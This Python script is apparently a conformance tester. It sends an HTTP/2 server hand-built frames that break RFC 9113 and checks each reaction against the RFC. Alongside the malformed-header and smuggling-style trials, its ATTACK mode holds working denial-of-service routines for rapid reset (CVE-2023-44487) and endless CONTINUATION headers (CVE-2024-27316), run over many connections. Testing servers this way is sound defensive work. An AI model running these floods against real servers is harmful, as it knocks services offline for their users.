"""Sends a server of HTTP/2 what RFC 9113 forbids, and what attacks consist of, and compares its reaction with the RFC.

Usage: http2_violations.py HOST PORT [ATTACK CONNECTIONS]. Prints a line for each trial: "ok NAME: REACTION", or "WRONG
NAME: ..."; with ATTACK, the reaction that each connection gets at last. Needs Debian's python3-h2, for HPACK and for the
frames of the server. What is sent is made by hand: hyperframe refuses to.

The server has at /echo what answers with the body when that is complete, at /wait what never answers, and a page
everywhere else.
"""

import socket
import struct
import sys

from h2.errors import ErrorCodes
from hpack import Decoder, Encoder
from hyperframe.frame import Frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, WITH_PRIORITY = 1, 1, 4, 8, 32
BOTH = END_STREAM | END_HEADERS
WINDOW_MAX = (1 << 31) - 1
PONG = "12345678"
LONG = "&" * 15000


def fields(method, path, *more):
    return [(":method", method), (":scheme", "http"), (":authority", "shop"), (":path", path), *more]


GET = fields("GET", "/page")
POST = fields("POST", "/echo")
WAIT = fields("GET", "/wait")


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(*pairs):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *pair) for pair in pairs))


def number(value):
    return struct.pack(">I", value)


class Client:
    """One connection, which has sent its preface."""

    def __init__(self, address, preface):
        self.socket = socket.create_connection(address, timeout=20)
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.unread = b""
        self.ended = False
        self.send(preface)

    def send(self, data):
        """Returns whether the server has taken it: if it has closed, what it has said about that is still there."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def block(self, head):
        return self.encoder.encode(head)

    def head(self, stream, head=None, flags=BOTH):
        return frame(HEADERS, flags, stream, self.block(GET if head is None else head))

    def next(self):
        """The server's next frame; None behind the last."""
        while True:
            if len(self.unread) >= 9:
                parsed, length = Frame.parse_frame_header(memoryview(self.unread[:9]))
                if len(self.unread) >= 9 + length:
                    parsed.parse_body(memoryview(self.unread[9 : 9 + length]))
                    self.unread = self.unread[9 + length :]
                    return parsed
            try:
                more = self.socket.recv(65536)
            except ConnectionError:
                more = b""
            if not more:
                self.ended = True
                return None
            self.unread += more

    def reaction(self, of=None):
        """A reset, a GOAWAY that is followed by the end, a status, or an answer to a PING; perhaps of one stream."""
        while True:
            each = self.next()
            if each is None:
                return "end"
            if of not in (None, each.stream_id) and each.stream_id != 0:
                continue
            kind = type(each).__name__
            if kind == "GoAwayFrame":
                code = ErrorCodes(each.error_code).name
                while True:
                    rest = self.next()
                    if rest is None:
                        return "GOAWAY " + code
                    if type(rest).__name__ == "PingFrame":
                        return "GOAWAY " + code + ", and stays"
            if kind == "RstStreamFrame":
                return "RST_STREAM " + ErrorCodes(each.error_code).name
            if kind == "HeadersFrame":
                return dict(self.decoder.decode(each.data))[":status"]
            if kind == "PingFrame" and "ACK" in each.flags and each.opaque_data == PONG.encode():
                return "pong"


def ping():
    return frame(PING, payload=PONG.encode())


def opened(make):
    """A request whose body is under way, and something behind it."""
    return lambda c: c.head(1, POST, END_HEADERS) + make(c)


def plain(name, value):
    """A field as HPACK has it, whatever it is: not in lower case, as the encoder would have it."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def with_field(name, value):
    """A request with a field that may be anything."""
    return lambda c: frame(HEADERS, BOTH, 1, c.block(GET) + plain(name, value))


def request(*head):
    return lambda c: c.head(1, list(head))


def asks(*more):
    return lambda c: c.head(1, GET + list(more))


def posts(body, *more):
    return lambda c: c.head(1, POST + list(more), END_HEADERS) + frame(DATA, END_STREAM, 1, body)


PROTOCOL = "GOAWAY PROTOCOL_ERROR"
SIZE = "GOAWAY FRAME_SIZE_ERROR"
FLOW = "GOAWAY FLOW_CONTROL_ERROR"
COMPRESSION = "GOAWAY COMPRESSION_ERROR"
MALFORMED = "RST_STREAM PROTOCOL_ERROR"

# The section of RFC 9113, if no other is said; what is sent; how the server must react; the bytes.
TRIALS = [
    # ---- the connection
    ("3.4", "a request before SETTINGS", PROTOCOL, lambda c: c.head(1)),
    ("4.1", "an unknown frame", "200", lambda c: frame(0x42, 0xFF, 1, b"whatever") + c.head(1)),
    ("4.1", "unknown flags", "200", lambda c: c.head(1, GET, BOTH | 0xD2 & ~WITH_PRIORITY)),
    ("4.1", "the reserved bit of a stream", "200", lambda c: frame(HEADERS, BOTH, 1 | 1 << 31, c.block(GET))),
    ("4.2", "a head of more than 16384 bytes", SIZE, lambda c: frame(HEADERS, BOTH, 1, c.block(GET) + bytes(16384))),
    ("4.2", "DATA of more than 16384 bytes", SIZE, opened(lambda c: frame(DATA, 0, 1, bytes(16385)))),
    ("4.2", "an unknown frame of more than 16384 bytes", SIZE, lambda c: frame(0x42, payload=bytes(16385))),
    ("4.3", "an index that HPACK has not", COMPRESSION, lambda c: frame(HEADERS, BOTH, 1, b"\xff\xff\x7f")),
    ("4.3", "index 0 of HPACK", COMPRESSION, lambda c: frame(HEADERS, BOTH, 1, b"\x80")),
    ("4.3", "a table larger than allowed", COMPRESSION, lambda c: frame(HEADERS, BOTH, 1, b"\x3f\xe1\x7f\x82")),
    ("4.3", "a new size behind fields", COMPRESSION, lambda c: frame(HEADERS, BOTH, 1, c.block(GET) + b"\x20")),
    ("4.3", "a name that ends before its length", COMPRESSION, lambda c: frame(HEADERS, BOTH, 1, b"\x00\x05ab")),
    ("4.3", "Huffman padding of zeros", COMPRESSION,
     lambda c: frame(HEADERS, BOTH, 1, c.block(GET) + b"\x00\x01x\x81\x18")),
    # ---- streams
    ("5.1", "DATA on an idle stream", PROTOCOL, lambda c: frame(DATA, 0, 1, b"x")),
    ("5.1", "RST_STREAM on an idle stream", PROTOCOL, lambda c: frame(RST, 0, 1, number(8))),
    ("5.1", "WINDOW_UPDATE on an idle stream", PROTOCOL, lambda c: frame(WINDOW, 0, 1, number(1))),
    ("5.1", "PRIORITY on an idle stream", "200",
     lambda c: frame(PRIORITY, 0, 1, number(0) + b"\x10") + c.head(1)),
    ("5.1", "a body behind the end", "RST_STREAM STREAM_CLOSED",
     lambda c: c.head(1, WAIT) + frame(DATA, 0, 1, b"x")),
    ("5.1", "a head behind the end", "RST_STREAM STREAM_CLOSED",
     lambda c: c.head(1, WAIT) + c.head(1, [("x", "y")])),
    ("5.1", "WINDOW_UPDATE behind the end", "pong", lambda c: c.head(1, WAIT) + frame(WINDOW, 0, 1, number(1))),
    ("5.1.1", "an even stream", PROTOCOL, lambda c: c.head(2)),
    ("5.1.1", "a stream with a lower number", PROTOCOL, lambda c: c.head(5, WAIT) + c.head(3)),
    ("5.1.1", "a stream that is begun again", PROTOCOL,
     lambda c: c.head(1) + frame(RST, 0, 1, number(8)) + c.head(1)),
    ("5.1.2", "more streams than allowed", "RST_STREAM REFUSED_STREAM",
     lambda c: b"".join(c.head(2 * i + 1, WAIT) for i in range(101))),
    ("5.5", "an unknown frame in a head", PROTOCOL,
     lambda c: frame(HEADERS, END_STREAM, 1, c.block(GET)) + frame(0x42) + frame(CONTINUATION, END_HEADERS, 1)),
    # ---- frames
    ("6.1", "DATA on stream 0", PROTOCOL, lambda c: frame(DATA, 0, 0, b"x")),
    ("6.1", "more padding than DATA", PROTOCOL, opened(lambda c: frame(DATA, PADDED, 1, b"\xffabc"))),
    ("6.2", "HEADERS on stream 0", PROTOCOL, lambda c: c.head(0)),
    ("6.2", "more padding than HEADERS", PROTOCOL, lambda c: frame(HEADERS, BOTH | PADDED, 1, b"\xff" + c.block(GET))),
    ("6.2", "HEADERS with padding and a priority", "200",
     lambda c: frame(HEADERS, BOTH | PADDED | WITH_PRIORITY, 1, b"\x02" + number(0) + b"\x10" + c.block(GET) + b"\0\0")),
    ("6.3", "PRIORITY on stream 0", PROTOCOL, lambda c: frame(PRIORITY, 0, 0, number(1) + b"\x10")),
    ("6.3", "PRIORITY of 4 bytes", "RST_STREAM FRAME_SIZE_ERROR", opened(lambda c: frame(PRIORITY, 0, 1, b"1234"))),
    ("RFC 7540, 5.3.1", "a stream that depends on itself", MALFORMED,
     opened(lambda c: frame(PRIORITY, 0, 1, number(1) + b"\x10"))),
    ("6.4", "RST_STREAM on stream 0", PROTOCOL, lambda c: frame(RST, 0, 0, number(8))),
    ("6.4", "RST_STREAM of 3 bytes", SIZE, opened(lambda c: frame(RST, 0, 1, b"abc"))),
    ("6.5", "SETTINGS of 5 bytes", SIZE, lambda c: frame(SETTINGS, payload=b"12345")),
    ("6.5", "SETTINGS on a stream", PROTOCOL, lambda c: frame(SETTINGS, 0, 1)),
    ("6.5", "SETTINGS ACK with a payload", SIZE, lambda c: frame(SETTINGS, ACK, 0, b"123456")),
    ("6.5.2", "ENABLE_PUSH of 2", PROTOCOL, lambda c: settings((2, 2))),
    ("6.5.2", "a window beyond 2^31-1 in SETTINGS", FLOW, lambda c: settings((4, 1 << 31))),
    ("6.5.2", "frames of less than 16384 bytes", PROTOCOL, lambda c: settings((5, 16383))),
    ("6.5.2", "frames of more than 2^24-1 bytes", PROTOCOL, lambda c: settings((5, 1 << 24))),
    ("6.5.2", "unknown SETTINGS", "200", lambda c: settings((99, 1)) + c.head(1)),
    ("RFC 8441, 3", "ENABLE_CONNECT_PROTOCOL of 2", PROTOCOL, lambda c: settings((8, 2))),
    ("6.6", "PUSH_PROMISE", PROTOCOL,
     opened(lambda c: frame(PUSH, END_HEADERS, 1, number(2) + c.block(GET)))),
    ("6.7", "PING of 7 bytes", SIZE, lambda c: frame(PING, payload=b"1234567")),
    ("6.7", "PING on a stream", PROTOCOL, lambda c: frame(PING, 0, 1, b"12345678")),
    ("6.8", "GOAWAY on a stream", PROTOCOL, lambda c: frame(GOAWAY, 0, 1, bytes(8))),
    ("6.8", "GOAWAY of 7 bytes", SIZE, lambda c: frame(GOAWAY, 0, 0, bytes(7))),
    ("6.9", "WINDOW_UPDATE of 0", PROTOCOL, lambda c: frame(WINDOW, payload=number(0))),
    ("6.9", "WINDOW_UPDATE of 0 on a stream", MALFORMED, opened(lambda c: frame(WINDOW, 0, 1, number(0)))),
    ("6.9", "WINDOW_UPDATE of 3 bytes", SIZE, lambda c: frame(WINDOW, payload=b"abc")),
    ("6.9.1", "the connection's window beyond 2^31-1", FLOW, lambda c: frame(WINDOW, payload=number(WINDOW_MAX))),
    ("6.9.1", "a stream's window beyond 2^31-1", "RST_STREAM FLOW_CONTROL_ERROR",
     opened(lambda c: frame(WINDOW, 0, 1, number(WINDOW_MAX)))),
    ("6.9.1", "more DATA than the stream's window", "RST_STREAM FLOW_CONTROL_ERROR",
     lambda c: c.head(1, fields("POST", "/wait"), END_HEADERS) + frame(DATA, 0, 1, bytes(16384)) * 1000),
    ("6.9.2", "SETTINGS that make a window too large", FLOW,
     opened(lambda c: frame(WINDOW, 0, 1, number(WINDOW_MAX - 65535)) + settings((4, 65536)))),
    ("6.10", "CONTINUATION without HEADERS", PROTOCOL, lambda c: frame(CONTINUATION, END_HEADERS, 1, b"\x82")),
    ("6.10", "CONTINUATION behind a whole head", PROTOCOL,
     lambda c: c.head(1, WAIT) + frame(CONTINUATION, END_HEADERS, 1, b"\x82")),
    ("6.10", "CONTINUATION on stream 0", PROTOCOL,
     lambda c: frame(HEADERS, END_STREAM, 1, c.block(GET)) + frame(CONTINUATION, END_HEADERS, 0)),
    ("6.10", "CONTINUATION of another stream", PROTOCOL,
     lambda c: frame(HEADERS, END_STREAM, 1, b"\x82") + frame(CONTINUATION, END_HEADERS, 3, b"\x86")),
    ("6.10", "PING in a head", PROTOCOL, lambda c: frame(HEADERS, END_STREAM, 1, b"\x82") + ping()),
    ("6.10", "a head in three pieces", "200",
     lambda c: frame(HEADERS, END_STREAM, 1, c.block(GET[:2])) + frame(CONTINUATION, 0, 1, c.block(GET[2:3]))
     + frame(CONTINUATION, END_HEADERS, 1, c.block(GET[3:]))),
    # ---- requests
    ("8.1", "a second head that does not end the stream", MALFORMED,
     opened(lambda c: c.head(1, [("x", "y")], END_HEADERS))),
    ("8.1", "a pseudo-field in trailers", "400", opened(lambda c: c.head(1, [(":path", "/other")]))),
    ("8.1.1", "a body longer than it says", MALFORMED, posts(b"xy", ("content-length", "1"))),
    ("8.1.1", "a body shorter than it says", MALFORMED, posts(b"xy", ("content-length", "3"))),
    ("8.1.1", "a length and no body", MALFORMED, asks(("content-length", "3"))),
    ("8.2.1", "a capital letter", MALFORMED, with_field(b"Xx", b"y")),
    ("8.2.1", "a blank in a name", MALFORMED, with_field(b"x y", b"z")),
    ("8.2.1", "a colon in a name", MALFORMED, with_field(b"x:", b"z")),
    ("8.2.1", "a byte beyond ASCII in a name", MALFORMED, with_field(b"x\xe4", b"z")),
    ("8.2.1", "an empty name", MALFORMED, with_field(b"", b"z")),
    ("8.2.1", "NUL in a value", MALFORMED, with_field(b"x", b"a\0b")),
    ("8.2.1", "CR in a value", MALFORMED, with_field(b"x", b"a\rb")),
    ("8.2.1", "a line break and a field in a value", MALFORMED, with_field(b"x", b"a\r\nb: c")),
    ("8.2.1", "a blank before a value", MALFORMED, with_field(b"x", b" a")),
    ("8.2.1", "a tab behind a value", MALFORMED, with_field(b"x", b"a\t")),
    ("8.2.2", "connection", MALFORMED, asks(("connection", "close"))),
    ("8.2.2", "keep-alive", MALFORMED, asks(("keep-alive", "5"))),
    ("8.2.2", "proxy-connection", MALFORMED, asks(("proxy-connection", "close"))),
    ("8.2.2", "transfer-encoding", MALFORMED, posts(b"x", ("transfer-encoding", "chunked"))),
    ("8.2.2", "upgrade", MALFORMED, asks(("upgrade", "websocket"))),
    ("8.2.2", "te: gzip", MALFORMED, asks(("te", "gzip"))),
    ("8.2.2", "te: trailers", "200", asks(("te", "trailers"))),
    ("8.3", "a pseudo-field behind a field", MALFORMED, request(*GET[:3], ("x", "y"), GET[3])),
    ("8.3", "an unknown pseudo-field", MALFORMED, request((":color", "red"), *GET)),
    ("8.3", "the pseudo-field of a response", MALFORMED, request((":status", "200"), *GET)),
    ("8.3.1", "no method", MALFORMED, request(*GET[1:])),
    ("8.3.1", "no scheme", MALFORMED, request(GET[0], *GET[2:])),
    ("8.3.1", "no path", MALFORMED, request(*GET[:3])),
    ("8.3.1", "an empty path", MALFORMED, request(*GET[:3], (":path", ""))),
    ("8.3.1", "a path that does not begin with a slash", MALFORMED, request(*GET[:3], (":path", "page"))),
    ("8.3.1", "two paths", MALFORMED, request(*GET, (":path", "/"))),
    ("8.3.1", "two methods", MALFORMED, request(*GET, (":method", "POST"))),
    ("8.3.1", "a user in the authority", MALFORMED, request(*GET[:2], (":authority", "me@shop"), GET[3])),
    ("8.3.1", "another Host", MALFORMED, asks(("host", "other"))),
    ("8.3.1", "a Host alone", "200", request(*GET[:2], GET[3], ("host", "shop"))),
    ("8.5", "CONNECT with a path", MALFORMED, request((":method", "CONNECT"), (":authority", "a:1"), (":path", "/"))),
    ("8.5", "CONNECT without an authority", MALFORMED, request((":method", "CONNECT"))),
    ("RFC 8441, 4", "a protocol without CONNECT", MALFORMED, request((":protocol", "websocket"), *GET)),
    # ---- what HTTP/1 could read in two ways
    ("10.3", "a blank and a version in the path", MALFORMED, request(*GET[:3], (":path", "/page HTTP/1.1"))),
    ("10.3", "a line break in the path", MALFORMED, request(*GET[:3], (":path", "/\r\nx: y"))),
    ("10.3", "a blank in the method", MALFORMED, request((":method", "GET /x"), *GET[1:])),
    ("10.3", "two lengths", MALFORMED, posts(b"x", ("content-length", "1"), ("content-length", "1"))),
    ("10.3", "a length with a sign", MALFORMED, posts(b"x", ("content-length", "+1"))),
    ("10.3", "content_length", MALFORMED, posts(b"x", ("content_length", "0"))),
    ("10.3", "transfer_encoding", MALFORMED, posts(b"x", ("transfer_encoding", "chunked"))),
    # ---- what is too much
    ("10.5.1", "a head of more than 64 KiB", "431",
     lambda c: frame(HEADERS, END_STREAM, 1, c.block(GET))
     + b"".join(frame(CONTINUATION, END_HEADERS if i == 4 else 0, 1, c.block([("x", LONG)])) for i in range(5))),
    ("CVE-2024-27316", "a head that does not end", PROTOCOL,
     lambda c: frame(HEADERS, END_STREAM, 1, c.block(GET)) + frame(CONTINUATION, 0, 1, c.block([("x", LONG)])) * 20),
    ("10.5.1", "a head that unpacks to 4 MB", "431",
     lambda c: frame(HEADERS, BOTH, 1, c.block(GET) + c.block([("x", "y" * 3000)]) + b"\xbe" * 1400)),
    ("10.5", "2500 PINGs", "calm", lambda c: ping() * 2500),
    ("10.5", "2500 SETTINGS", "calm", lambda c: settings((4, 65535)) * 2500),
    ("10.5", "2500 empty DATA", "calm", opened(lambda c: frame(DATA, 0, 1) * 2500)),
    ("10.5", "2500 PRIORITY", "calm",
     lambda c: b"".join(frame(PRIORITY, 0, 2 * i + 1, number(0) + b"\x10") for i in range(2500))),
    ("10.5", "2500 updates of a window", "calm", opened(lambda c: frame(WINDOW, 0, 1, number(1)) * 2500)),
    ("10.5", "2500 unknown frames", "calm", lambda c: frame(0x42) * 2500),
    ("10.5", "100 empty CONTINUATION", "calm",
     lambda c: frame(HEADERS, END_STREAM, 1, c.block(GET)) + frame(CONTINUATION, 0, 1) * 100),
    ("CVE-2023-44487", "300 streams that are reset", "calm",
     lambda c: b"".join(c.head(2 * i + 1, WAIT) + frame(RST, 0, 2 * i + 1, number(8)) for i in range(300))),
    ("CVE-2025-8671", "300 streams that must be reset", "calm",
     lambda c: b"".join(c.head(2 * i + 1, POST, END_HEADERS) + frame(WINDOW, 0, 2 * i + 1, number(0))
                        for i in range(300))),
    ("CVE-2025-8671", "300 malformed requests", "calm",
     lambda c: b"".join(c.head(2 * i + 1, GET[:3]) for i in range(300))),
]



def rapid_reset(client):
    """CVE-2023-44487: 5000 requests, each reset at once."""
    for i in range(5000):
        if not client.send(client.head(2 * i + 1) + frame(RST, 0, 2 * i + 1, number(8))):
            return


def endless_head(client):
    """CVE-2024-27316: a head of 16 MiB that does not end."""
    client.send(frame(HEADERS, END_STREAM, 1, client.block(GET)))
    for _ in range(1000):
        if not client.send(frame(CONTINUATION, 0, 1, client.block([("x", LONG)]))):
            return


def attack(address, how, connections):
    clients = [Client(address, PREFACE + settings()) for _ in range(connections)]
    for client in clients:
        how(client)
    for client in clients:
        reaction = "200"
        while reaction[0].isdigit():
            reaction = client.reaction()
        print(reaction, flush=True)
        client.socket.close()

def tried(address, name, expected, make):
    client = Client(address, PREFACE if name == "a request before SETTINGS" else PREFACE + settings())
    client.send(make(client) + (b"" if expected.isdigit() else ping()))
    reaction = client.reaction()
    if expected == "calm":
        # Some are served, refused or reset before it is too much.
        while reaction.startswith(("RST_STREAM", "2", "pong")):
            reaction = client.reaction()
        expected = "GOAWAY ENHANCE_YOUR_CALM"
    if reaction.startswith("RST_STREAM") or reaction.isdigit():
        # It has cost one stream: the connection serves the next, unless the others are still open.
        client.send(client.head(999))
        later = "pong"
        while later == "pong":
            later = client.reaction(999)
        if later != ("RST_STREAM REFUSED_STREAM" if reaction.endswith("REFUSED_STREAM") else "200"):
            reaction += ", then " + later
    client.socket.close()
    return expected, reaction


def main():
    address = (sys.argv[1], int(sys.argv[2]))
    if len(sys.argv) > 3:
        attack(address, {"rapid-reset": rapid_reset, "endless-head": endless_head}[sys.argv[3]], int(sys.argv[4]))
        return
    for section, name, expected, make in TRIALS:
        expected, reaction = tried(address, name, expected, make)
        right = reaction == expected
        print(("ok " if right else "WRONG ") + section + ", " + name + ": " + reaction
              + ("" if right else ", not " + expected), flush=True)


main()
